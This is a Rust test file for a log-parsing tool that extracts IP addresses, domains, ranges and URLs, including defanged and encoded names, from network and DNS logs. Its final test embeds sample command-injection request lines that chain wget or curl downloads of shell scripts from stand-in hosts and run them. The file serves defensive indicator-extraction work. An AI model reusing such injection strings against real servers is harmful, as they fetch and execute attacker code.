//! Names and addresses as logs write them.

use super::rules::holds;

#[test]
fn a_port_behind_a_dot_is_a_port_where_the_line_is_about_traffic() {
    holds("1.5 IP 10.0.0.5.22 > 8.8.4.4.51515: Flags [P.]", &["10.0.0.5|reserved", "8.8.4.4"]);
    holds("1.5 IP6 2606:4700::1.443 > 2a01:4f8::9.5555: x", &["2606:4700::1", "2a01:4f8::9"]);
    holds("tcp4  0  0  8.8.8.8.49152   8.8.4.4.443   ESTABLISHED", &["8.8.8.8", "8.8.4.4"]);
    holds("build 4.8.4.1.2 of it, 1.2.3.4.70000 > x", &[]);
    holds("1.2.3.4.5", &[]);
}

#[test]
fn a_number_behind_a_slash_is_a_port_where_it_can_be_no_prefix() {
    holds("for outside:8.8.4.4/22 (8.8.4.4/22) to x", &["8.8.4.4", "8.8.4.4"]);
    holds("RST: 8.8.8.8/37769->8.8.4.4/25 0x0", &["8.8.8.8", "8.8.4.4"]);
    holds("7 8.8.4.5/31 query[A] evil.com from x", &["8.8.4.5", "evil.com"]);
    holds("pair 8.8.4.0/24 (8.8.4.0/24) here", &["8.8.4.0", "8.8.4.0"]);
    holds("The net 8.8.4.0/24 is theirs", &["8.8.4.0/24|range"]);
    // Alone in a line or a cell it stays a range.
    holds("8.8.4.5/24", &["8.8.4.5/24|range"]);
    holds("a b,8.8.4.5/24,c d", &["8.8.4.5/24|range"]);
    holds("-s 8.8.4.4/32 -j DROP, 2a01::6/128 too", &["8.8.4.4", "2a01::6"]);
}

#[test]
fn what_stands_behind_a_name_in_a_log_does_not_leave() {
    holds("resolving 'evil.com/A/IN': 8.8.4.4#53", &["evil.com", "8.8.4.4"]);
    holds("zone transfer 'evil.com/AXFR/IN' denied", &["evil.com"]);
    holds("Connected to c2.evil.com/8.8.4.4:443", &["c2.evil.com", "8.8.4.4"]);
    holds("to c2.evil.com/8.8.4.4/x it", &["http://c2.evil.com/8.8.4.4/x|assumed"]);
    holds("Account Name:\tcorp.evil.com/HQ/Users/Pat Doe x.com", &["corp.evil.com"]);
    holds("canonicalName: corp.evil.com/HQ", &["corp.evil.com"]);
    holds("at corp.evil.com/HQ/Users it", &["http://corp.evil.com/HQ/Users|assumed"]);
}

#[test]
fn names_of_windows_dns_are_read() {
    holds(
        "UDP Rcv 8.8.8.8 a1b2 Q [0001] A (5)login(4)evil(3)com(0)",
        &["8.8.8.8", "login.evil.com"],
    );
    holds("A (5)login(5)evil(3)com(0)", &[]);
}

#[test]
fn the_ends_of_a_range_are_one_range() {
    holds("inetnum:        8.8.0.0 - 8.8.255.255", &["8.8.0.0/16|range"]);
    holds("NetRange:       8.16.0.0 - 8.31.255.255", &["8.16.0.0/12|range"]);
    holds("Block the range 8.8.8.3 - 8.8.8.9 now", &["8.8.8.3-8.8.8.9|range"]);
    holds("from 8.8.8.0-8.8.8.255 on", &["8.8.8.0/24|range"]);
    holds("from 8.8.8.3 - 8.8.8.9 on", &["8.8.8.3", "8.8.8.9"]);
}

#[test]
fn versions_and_identifiers_are_no_addresses() {
    for text in [
        "KB1~31bf~amd64~~6.1.1.0 applicable",
        "ProductVersion\u{0}4.0.0.1\u{0}",
        "2.5.29.37={text}1.3.6.1.5.5.7.3.1",
        "OID 2.5.29.17: critical",
        "oid: 2.5.4.10 (organizationName)",
    ] {
        holds(text, &[]);
    }
    holds("at 2.5.29.37 and 2.5.4.10 it", &["2.5.29.37", "2.5.4.10"]);
}

#[test]
fn names_that_were_broken_are_whole_again() {
    holds(
        "at foo[-]evil.com, e[v]il[.]com, ev(i)l.com now",
        &["foo-evil.com", "evil.com", "evil.com"],
    );
    holds("foo[-]evil.com", &["foo-evil.com"]);
    holds("at http://ev[-]il.com/x[1]y now", &["http://ev-il.com/x[1]y"]);
    holds("at ev[i]l.com/x now", &["http://evil.com/x|assumed"]);
    holds("at 8.8.4.[44] and http://8.8.4.[4]/z now", &["8.8.4.44", "http://8.8.4.4/z"]);
    holds("8.8.4.[44]", &["8.8.4.44"]);
    holds("at evil.com[1] and evil.org (2) now", &["evil.com", "evil.org"]);
}

#[test]
fn what_is_written_before_a_name_is_no_part_of_it() {
    holds("to First.Last=40evil.com now", &["evil.com"]);
    holds("host=40evil.com now", &["40evil.com"]);
    holds("user%2540evil.com in", &["evil.com"]);
    holds("next=x*2F*2Fevil.com*2fa", &["evil.com"]);
    holds("snprintf(b, \"%s.evil.com\", id)", &["evil.com"]);
    holds("at http://\u{272a}evil.ws/1 now", &["http://xn--evil-9n4b.ws/1"]);
    holds("at http://evil.com\u{2764} now", &["http://evil.com/"]);
}

#[test]
fn the_host_of_another_scheme_that_is_one_label_stays_a_url() {
    holds("at ftp://intranet now", &["ftp://intranet|other scheme"]);
    holds("at ftp://evil.com now", &["evil.com"]);
}

#[test]
fn a_command_in_another_request_ends_a_url() {
    holds("GET /x?cd+/tmp;wget+http://8.8.4.4/j.sh;sh+j HTTP/1.1", &["http://8.8.4.4/j.sh"]);
    holds("GET /x?a=;curl+http://evil.com/i.sh+-o+i HTTP/1.1", &["http://evil.com/i.sh"]);
    holds("at http://evil.com/s;v=1?q=a+b;c now", &["http://evil.com/s;v=1?q=a+b;c"]);
    holds("at http://evil.com/v?f=..\\..\\etc now", &["http://evil.com/v?f=..\\..\\etc"]);
    holds("at http://evil.com/a_[b_[c]]_(d_(e)) now", &["http://evil.com/a_[b_[c]]_(d_(e))"]);
    holds("[http://evil.com/x[1]y]", &["http://evil.com/x[1]y"]);
}
